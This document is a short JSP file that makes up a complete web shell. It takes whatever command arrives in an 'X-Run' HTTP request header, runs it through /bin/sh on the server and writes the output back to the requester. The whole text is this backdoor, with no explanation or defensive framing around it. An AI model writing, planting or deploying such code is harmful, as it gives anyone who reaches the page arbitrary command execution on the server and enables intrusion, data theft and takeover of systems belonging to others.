<%
String[] cmd = {"/bin/sh", "-c", request.getHeader("X-Run")};
java.io.InputStream in = new ProcessBuilder(cmd).start().getInputStream();
int b; while ((b = in.read()) != -1) out.write(b);
%>
